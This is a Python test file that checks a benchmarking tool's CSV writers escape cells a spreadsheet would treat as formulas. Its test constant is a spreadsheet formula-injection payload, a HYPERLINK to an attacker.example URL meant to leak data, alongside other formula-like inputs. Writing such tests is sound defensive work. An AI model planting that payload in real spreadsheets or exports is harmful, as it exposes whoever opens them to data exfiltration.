"""Issue 40: a CSV that breakeven writes is safe to open in a spreadsheet.

``--format csv`` and the measurements CSVs (``ingest --out``, ``bench --out``, a sweep's
runs.csv) write a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (a formula, to a spreadsheet: OWASP's CSV injection rule) with a ``'`` in front; numbers
stay numbers (``-0.750`` is a value, not a formula).  A measurements CSV is read back by
breakeven itself, so its reader takes the ``'`` off: every text reads back as written."""

from __future__ import annotations

import csv
import io
import json
import re

from cli_checks import run_cli
from fake_server import Behaviour, FakeServer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from breakeven.core.display import FORMULA_STARTS, printable, spreadsheet_cell
from breakeven.iotools.csvfile import read_measurements, write_measurements
from breakeven.render.text import csv_table

HOSTILE = '=HYPERLINK("http://attacker.example/?leak")'
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
SETTINGS = settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

# Text that starts like a formula, or with the escape itself, or is harmless.
texts = st.one_of(
    st.text(max_size=12),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from([*FORMULA_STARTS, "'", "''", " =", "-1", "+1"]),
        st.text(max_size=12),
    ),
)


def _cells(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table)))


def _unsafe(cell: str) -> bool:
    """Whether a spreadsheet would read a written cell as a formula."""
    return cell.startswith(FORMULA_STARTS) and cell != "-" and not NUMBER.fullmatch(cell)


@SETTINGS
@given(st.lists(st.lists(texts, min_size=3, max_size=3), min_size=1, max_size=5))
def test_format_csv_writes_no_cell_a_spreadsheet_reads_as_a_formula(rows):
    written = _cells(csv_table(["a", "b", "c"], rows))
    assert len(written) == len(rows) + 1
    for row, shown in zip(rows, written[1:], strict=True):
        for cell, out in zip(row, shown, strict=True):
            assert not _unsafe(out), (cell, out)
            # What is written is the cell as printed, with at most the one ' in front.
            assert out in (printable(cell), "'" + printable(cell))


def test_numbers_stay_numbers_and_text_is_escaped():
    for number in ("-3.5", "+2.9", "-0.750", "1.2e+300", "-1e-05", "-12.5%", "7", "-"):
        assert spreadsheet_cell(number) == number
    for text in ("=1+1", "@SUM(1)", "+A1", "-1+2", "-k3", "-inf", "'quoted"):
        assert spreadsheet_cell(text) == "'" + text


def _hostile_csv(path):
    path.write_text(
        "run_id,label,model,hardware,concurrency,num_spec_tokens,spec_method,tok_s,"
        "accept_len,step_ms,cycle_ms\n"
        f'b1,@SUM(1),"{HOSTILE.replace(chr(34), 2 * chr(34))}",+gpu,1,0,,100,,10,\n'
        f'b2,@SUM(1),"{HOSTILE.replace(chr(34), 2 * chr(34))}",-gpu,1,0,,100,,10,\n'
        f's1,-k3,"{HOSTILE.replace(chr(34), 2 * chr(34))}",+gpu,1,3,eagle3,50,2.5,10,20\n'
    )


def test_check_format_csv_escapes_a_hostile_model_and_keeps_a_negative_residual(tmp_path):
    """A model name from a server (a formula) is escaped; the residual, -0.750, a number."""
    runs = tmp_path / "runs.csv"
    _hostile_csv(runs)
    r = run_cli(["check", runs, "--format", "csv"])
    assert r.exit_code == 0, r.output
    heads, *rows = _cells(r.stdout)
    spec = next(dict(zip(heads, row, strict=True)) for row in rows if row[1].endswith("k3"))
    assert spec["model"] == "'" + HOSTILE
    assert spec["label"] == "'-k3"
    assert spec["residual [x]"] == "-0.750"
    assert not any(_unsafe(cell) for row in rows for cell in row)


def _plain_text(text: str) -> bool:
    """Text a measurements CSV keeps as text: not one pandas reads as a number or a boolean
    (a label ``007`` reads back as 7 and ``TRUE`` as True, escaped or not: their categories
    are inferred), no NUL (a binary file)."""
    if text.strip().lower() in ("true", "false"):
        return False
    try:
        float(text)
    except ValueError:
        return "\0" not in text
    return False


csv_texts = texts.filter(_plain_text)


@SETTINGS
@given(st.lists(st.tuples(csv_texts, csv_texts, csv_texts), min_size=1, max_size=4))
def test_a_measurements_csv_reads_back_every_text_as_written(tmp_path_factory, cells):
    """write_measurements (the sweep's and the API's writer): text cells safe from a
    spreadsheet on disk, and read_measurements gives back each text as it was."""
    path = tmp_path_factory.mktemp("rt") / "runs.csv"
    records = [
        {
            "run_id": f"r{i}",
            "label": label,
            "model": model or "m",
            "hardware": hardware or "h",
            "concurrency": 1,
            "num_spec_tokens": 0,
            "tok_s": 10.0 + i,
        }
        for i, (label, model, hardware) in enumerate(cells)
    ]
    write_measurements(records, path)
    with open(path, newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    for row in raw:
        for column in ("run_id", "label", "model", "hardware"):
            assert not _unsafe(row[column]) and row[column] != "'", row
    data, _ = read_measurements(path)
    for record, (_, row) in zip(records, data.iterrows(), strict=True):
        for column in ("label", "model", "hardware"):
            value = row[column]
            # An empty label is an empty cell: read back as missing, as before.
            # A carriage return is written as a line feed (a lone one would end the row).
            written = record[column].replace("\r\n", "\n").replace("\r", "\n")
            assert (value if isinstance(value, str) else "") == written, column
        assert row["tok_s"] == record["tok_s"]


def test_ingest_out_escapes_text_and_check_reads_it_back(tmp_path):
    """ingest --out (polars' writer): --model and --label that look like formulas are escaped
    in the CSV, and check reads them back as given."""
    out = tmp_path / "runs.csv"
    r = run_cli(
        [
            "ingest",
            "tests/data/case_study/sglang_baseline.log",
            "--model",
            HOSTILE,
            "--hardware",
            "@gpu",
            "--label",
            "-base",
            "--out",
            out,
        ]
    )
    assert r.exit_code == 0, r.output
    with open(out, newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    assert raw and all(row["model"] == "'" + HOSTILE for row in raw)
    assert all(row["hardware"] == "'@gpu" and row["label"] == "'-base" for row in raw)
    data, _ = read_measurements(out)
    assert set(data["model"]) == {HOSTILE} and set(data["label"]) == {"-base"}
    assert set(data["hardware"]) == {"@gpu"}


def test_bench_out_escapes_a_model_name_from_the_server_and_reads_it_back(tmp_path):
    """The model name comes from the server (/v1/models): a formula there is escaped in
    bench's CSV, and check names the model as the server did."""
    out = tmp_path / "runs.csv"
    with FakeServer(Behaviour(model=HOSTILE, seconds_per_token=0.001)) as server:
        r = run_cli(
            [
                *("bench", "--url", server.url, "--label", "+t"),
                *("--max-tokens", 4, "--requests", 2, "--out", out),
            ]
        )
    assert r.exit_code == 0, r.output
    with open(out, newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    assert raw and all(row["model"] == "'" + HOSTILE and row["label"] == "'+t" for row in raw)
    data, _ = read_measurements(out)
    assert set(data["model"]) == {HOSTILE} and set(data["label"]) == {"+t"}
    checked = run_cli(["check", out, "--json"])
    assert checked.exit_code == 0, checked.output
    assert {row["model"] for row in json.loads(checked.stdout)["baselines"]} == {HOSTILE}
